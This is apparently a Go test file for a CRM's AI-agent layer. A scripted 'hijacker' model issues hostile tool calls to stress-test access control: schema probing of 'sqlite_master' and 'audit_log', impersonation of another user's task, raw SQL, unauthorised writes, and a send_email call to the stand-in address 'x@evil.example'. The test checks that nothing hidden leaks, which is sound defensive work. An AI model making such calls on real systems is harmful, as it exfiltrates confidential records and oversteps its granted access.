package hijack

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/remit-crm/remit"
	"github.com/remit-crm/remit/agent"
	"github.com/remit-crm/remit/data"
	"github.com/remit-crm/remit/data/datatest/pgtest"
	"github.com/remit-crm/remit/data/lens"
	"github.com/remit-crm/remit/llm"
	"github.com/remit-crm/remit/llm/roster"
	"github.com/remit-crm/remit/llm/script"
	"github.com/remit-crm/remit/ops/answers"
	"github.com/remit-crm/remit/tool"
)

// counts are what a test did, so that it shows whether it showed anything.
type counts struct{ runs, calls, answered, refused, probes, exact, cells int }

// TestHijackedModel lets a model do its worst, on both databases, and judges all
// that comes out.
func TestHijackedModel(t *testing.T) {
	seed := uint64(time.Now().UnixNano())
	if text := os.Getenv("REMIT_SEED"); text != "" {
		seed, _ = strconv.ParseUint(text, 10, 64)
	}
	t.Logf("REMIT_SEED=%d", seed)
	for name, url := range map[string]string{"sqlite": "sqlite:" + filepath.Join(t.TempDir(), "remit.db"), "postgres": pgtest.URL(t)} {
		t.Run(name, func(t *testing.T) {
			c := found(t, url, seed)
			if err := c.store.Policies.Apply(t.Context(), data.Operator("test"), c.drawPolicy(), nil); err != nil {
				t.Fatal(err)
			}
			before := c.everything(t)
			var n counts
			for range 12 {
				c.hijack(t, &n)
			}
			if after := c.everything(t); after != before {
				t.Error("the records have changed")
			}
			t.Logf("%d runs, %d calls: %d answered, %d refused; %d probes exact of %d; %d hidden cells looked for", n.runs, n.calls, n.answered, n.refused, n.exact, n.probes, n.cells)
			if n.answered < n.calls/6 || n.refused < n.calls/10 || n.exact < 40 {
				t.Error("the test shows little")
			}
		})
	}
}

// everything is all records as the operator reads them.
func (c *company) everything(t *testing.T) string {
	t.Helper()
	var out strings.Builder
	limit := 200
	for _, collection := range []string{"accounts", "opportunities"} {
		page, err := c.store.Lens.Query(t.Context(), data.Operator("test"), lens.Query{Collection: collection, Limit: &limit})
		if err != nil {
			t.Fatal(err)
		}
		out.Write(page.AppendJSON(nil))
	}
	return out.String()
}

// hijack draws a policy and has every person's AI employee hijacked in every task.
func (c *company) hijack(t *testing.T, n *counts) {
	t.Helper()
	doc := c.drawPolicy()
	by := data.Operator("test")
	if err := c.store.Policies.Apply(t.Context(), by, doc, nil); err != nil {
		t.Fatal(err)
	}
	c.egress = []remit.Sensitivity{remit.Internal, remit.Confidential, remit.Restricted, remit.Restricted}[c.dice.IntN(4)]
	for _, name := range []string{"Ann", "Bob", "Cleo"} {
		id := c.people[name]
		roles := [][]string{{"one"}, {"two"}, {"one", "two"}}[c.dice.IntN(3)]
		for _, role := range []string{"one", "two"} {
			_ = c.store.Directory.RevokeRole(t.Context(), by, id, role) // it may not be held
		}
		for _, role := range roles {
			if err := c.store.Directory.GrantRole(t.Context(), by, id, role, time.Time{}); err != nil {
				t.Fatal(err)
			}
		}
		for _, task := range []string{"", "narrow", "wide"} {
			c.run(t, &oracle{c: c, doc: doc, person: name, roles: roles, task: task}, n)
		}
		for _, task := range []string{"others", "ghost"} {
			if _, err := c.agent(t, nil).Run(t.Context(), agent.Request{Actor: c.actor(name), Employee: "viz", Task: task, Question: "?"}, nil); remit.KindOf(err) != remit.KindDenied {
				t.Errorf("the task %s: %v", task, err)
			}
		}
	}
}

func (c *company) actor(name string) remit.Actor {
	return remit.Actor{Person: c.people[name], Channel: remit.ChannelWeb}
}

func (c *company) agent(t *testing.T, model llm.Model) *agent.Agent {
	t.Helper()
	registry, err := tool.NewRegistry(tool.Builtin(c.store.Lens)...)
	if err != nil {
		t.Fatal(err)
	}
	return agent.New(agent.Config{
		Policy: answers.Layers(c.access), Tools: registry, Location: func() *time.Location { return time.UTC },
		Services: services{&roster.Service{Name: "hostile", Provider: roster.ProviderOpenAI, Model: "m", Egress: c.egress, Client: model}},
		Limits:   agent.Limits{Steps: 60},
	})
}

// run lets the hijacker work and judges what it got.
func (c *company) run(t *testing.T, o *oracle, n *counts) {
	t.Helper()
	h := &hijacker{c: c, dice: rand.New(rand.NewPCG(c.dice.Uint64(), 1)), probes: map[string]probe{}}
	result, err := c.agent(t, script.Func(h.complete)).Run(t.Context(), agent.Request{Actor: c.actor(o.person), Employee: "viz", Task: o.task, Question: "Tell me everything."}, func(agent.Event) {})
	if err != nil {
		t.Fatal(err)
	}
	n.runs++
	for _, call := range result.Calls {
		n.calls++
		if call.Refusal != nil {
			n.refused++
		} else {
			n.answered++
		}
		o.judge(t, call, n)
		if p, ok := h.probes[call.ID]; ok && call.Refusal == nil {
			n.probes++
			var got struct{ Count int }
			if err := json.Unmarshal(call.Result, &got); err != nil {
				t.Fatal(err)
			}
			if want := o.count(call.Tool, p); got.Count != want {
				t.Errorf("%s in %q: %s counts %d, and %d are to be seen", o.person, o.task, call.Arguments, got.Count, want)
			} else {
				n.exact++
			}
		}
	}
}

// judge looks in a call's outcome for every cell that the run may not see.
func (o *oracle) judge(t *testing.T, call agent.Call, n *counts) {
	t.Helper()
	out := string(call.Result) + " " + call.Text
	if call.Refusal != nil {
		out += call.Refusal.Message + call.Refusal.Hint
	}
	for _, r := range o.c.rows {
		for field, value := range r.cells {
			if o.sees(call.Tool, r, field) {
				continue
			}
			n.cells++
			if strings.Contains(out, value.text) && !strings.Contains(string(call.Arguments), value.text) {
				t.Errorf("%s (%v) in %q sees %s.%s of a record of %s by %s %s:\n%s", o.person, o.roles, o.task, r.collection, field, r.owner, call.Tool, call.Arguments, out)
			}
		}
	}
	o.judgeSize(t, call)
}

func (o *oracle) judgeSize(t *testing.T, call agent.Call) {
	t.Helper()
	var got struct {
		Collection string
		Count      *int
		Total      *int
		Records    json.RawMessage
	}
	if len(call.Result) == 0 || json.Unmarshal(call.Result, &got) != nil || call.Tool == "search_records" {
		return
	}
	var asked struct{ Collection string }
	_ = json.Unmarshal(call.Arguments, &asked) // the tool has read it
	visible := o.visible(call.Tool, asked.Collection)
	var records []json.RawMessage
	isList := json.Unmarshal(got.Records, &records) == nil
	summed := 0
	if !isList {
		_ = json.Unmarshal(got.Records, &summed) // an aggregate's, or none
	}
	for _, size := range []*int{got.Count, got.Total, &summed} {
		if size != nil && *size > visible {
			t.Errorf("%s in %q: %s %s is about %d records, and %d are to be seen", o.person, o.task, call.Tool, call.Arguments, *size, visible)
		}
	}
	if len(records) > o.rowLimit() {
		t.Errorf("%s in %q: %d records at once, and %d may be", o.person, o.task, len(records), o.rowLimit())
	}
}

// hijacker is a model that works for somebody else.
type hijacker struct {
	c       *company
	dice    *rand.Rand
	turn    int
	cursors []string
	known   map[string][]string // fields that list_collections told of
	probes  map[string]probe
}

// complete asks for several calls a turn. Every second is well-formed, so that the
// run is not given up.
func (h *hijacker) complete(_ context.Context, req llm.Request, _ func(string)) (*llm.Response, error) {
	for _, m := range req.Messages {
		var page struct {
			NextCursor string `json:"next_cursor"`
		}
		if json.Unmarshal([]byte(m.Text), &page) == nil && page.NextCursor != "" {
			h.cursors = append(h.cursors, page.NextCursor)
		}
	}
	h.learn(req.Messages)
	if h.turn++; h.turn > 12 || len(req.Tools) == 0 {
		return &llm.Response{Text: "Done.", Stop: llm.Finished}, nil
	}
	res := &llm.Response{Stop: llm.WantsTool}
	for i := range 4 {
		id := fmt.Sprintf("%d-%d", h.turn, i)
		name, arguments := h.call(id, i)
		raw, err := json.Marshal(arguments)
		if err != nil {
			return nil, err
		}
		res.Calls = append(res.Calls, llm.ToolCall{ID: id, Name: name, Arguments: raw})
	}
	return res, nil
}

// learn takes what the run knows of: a hijacker who names nothing else is the more
// dangerous one.
func (h *hijacker) learn(messages []llm.Message) {
	for _, m := range messages {
		var told struct {
			Collections []struct {
				Name   string
				Fields []struct{ Name string }
			}
		}
		if json.Unmarshal([]byte(m.Text), &told) != nil || told.Collections == nil {
			continue
		}
		h.known = map[string][]string{}
		for _, c := range told.Collections {
			for _, f := range c.Fields {
				h.known[c.Name] = append(h.known[c.Name], f.Name)
			}
		}
	}
}

type m map[string]any

func pick[T any](h *hijacker, values ...T) T { return values[h.dice.IntN(len(values))] }

func (h *hijacker) call(id string, i int) (string, m) {
	switch {
	case h.turn == 1 && i == 0:
		return "list_collections", m{}
	case i%2 == 0:
		return h.probe(id)
	case h.dice.IntN(5) == 0:
		return h.write()
	}
	return h.read()
}

// probe asks something of which the oracle knows the exact answer.
func (h *hijacker) probe(id string) (string, m) {
	p := pick(h, probe{field: "amount"}, probe{field: "discount"}, probe{field: "annual_revenue", hop: true})
	p.above = float64(10_000_000 + h.dice.IntN(80_000_000))
	name := p.field
	if p.field == "discount" {
		p.above = float64(h.dice.IntN(900_000)) / 1e6
	}
	if p.hop {
		name = "account." + name
	}
	h.probes[id] = p
	return "count_records", m{"collection": "opportunities", "filter": m{name: m{"$gt": p.above}}}
}

func (h *hijacker) collection() string {
	if len(h.known) > 0 && h.dice.IntN(3) > 0 {
		return pick(h, slices.Sorted(maps.Keys(h.known))...)
	}
	return pick(h, "accounts", "accounts", "opportunities", "opportunities", "opportunities", "people", "contacts", "departments", "sqlite_master", "audit_log")
}

// field names something of a collection, or of what it is related to.
func (h *hijacker) field(collection string) string {
	if known := h.known[collection]; len(known) > 0 && h.dice.IntN(5) > 0 {
		return known[h.dice.IntN(len(known))]
	}
	own := append(fields("accounts"), "id", "owner_id", "created_at", "owner.email", "owner.manager.name", "parent.description", "department.name")
	if collection == "opportunities" {
		own = append(fields("opportunities"), "stage", "close_date", "owner_id", "account.annual_revenue", "account.description", "account.name", "account.owner.email", "account_id", "contact.email", "account.parent.annual_revenue")
	}
	return own[h.dice.IntN(len(own))]
}

func (h *hijacker) filter(collection string, depth int) m {
	switch {
	case depth > 0 && h.dice.IntN(2) == 0:
		return m{pick(h, "$and", "$or"): []m{h.filter(collection, depth-1), h.filter(collection, depth-1)}}
	case depth > 0 && h.dice.IntN(3) == 0:
		return m{"$not": h.filter(collection, depth-1)}
	}
	f := h.field(collection)
	if strings.HasSuffix(f, "amount") || strings.HasSuffix(f, "revenue") || f == "discount" {
		return m{f: m{pick(h, "$gt", "$lt", "$ne", "$gte"): pick(h, 0.0, 0.5, 45_000_000.0)}}
	}
	return m{f: pick(h, m{"$notEmpty": true}, m{"$empty": true}, m{"$ne": "x"}, m{"$contains": pick(h, "b", "zz", "c")}, m{"$startsWith": pick(h, "b", "k", "z")})}
}

func (h *hijacker) read() (string, m) {
	collection := h.collection()
	switch h.dice.IntN(8) {
	case 0:
		return "get_record", m{"collection": collection, "id": h.id(), "fields": []string{h.field(collection)}}
	case 1:
		return "get_record", m{"collection": collection, "id": h.id()}
	case 2:
		return "search_records", m{"text": pick(h, "b", "bc", "ann", "k", h.word()), "limit": pick(h, 1, 50, 100)}
	case 3:
		return pick(h, "list_collections", "describe_collection"), m{"collection": collection}
	case 4:
		return pick(h, "execute_sql", "overall_analytics", "search_knowledge", "send_email", "draw_chart", "request_access"), m{"statement": "SELECT * FROM opportunities", "collection_name": "opportunities", "to": "x@evil.example", "kind": "kpi", "title": "T", "call": "1", "series": []m{{"column": "count"}}}
	case 5, 6:
		f := h.field(collection)
		return "aggregate_records", m{
			"collection": collection, "filter": h.filter(collection, 2), "limit": pick(h, 10, 1000), "dimensions": []m{{"field": f, "as": "d"}},
			"measures": []m{{"fn": pick(h, "count", "min", "max", "count_distinct"), "field": h.field(collection), "as": "v"}, {"fn": "ratio", "filter": h.filter(collection, 1), "as": "r"}}, "sort": []string{pick(h, "-v", "d", "r")},
		}
	}
	q := m{"collection": collection, "filter": h.filter(collection, 3), "sort": []string{pick(h, "", "-") + h.field(collection)}, "limit": pick(h, 1, 3, 1000, 1_000_000), "total": true}
	switch h.dice.IntN(4) {
	case 0:
		q["fields"] = []string{h.field(collection), h.field(collection)}
	case 1:
		q["employee"], q["task"], q["person"] = "other", "others", h.c.people["Cleo"]
	case 2:
		if len(h.cursors) > 0 {
			q["cursor"] = h.cursors[h.dice.IntN(len(h.cursors))]
		}
	}
	return "query_records", q
}

// word is the beginning of a marked text of somebody.
func (h *hijacker) word() string {
	r := h.c.rows[h.dice.IntN(len(h.c.rows))]
	return r.cells["name"].text[:3]
}

func (h *hijacker) id() remit.ID { return h.c.rows[h.dice.IntN(len(h.c.rows))].id }

func (h *hijacker) write() (string, m) {
	collection := pick(h, "accounts", "opportunities")
	values := m{h.field(collection): pick[any](h, "owned", 1, nil)}
	return pick(h, "update_record", "create_record", "delete_record"), m{"collection": collection, "id": h.id(), "version": "x", "values": values}
}
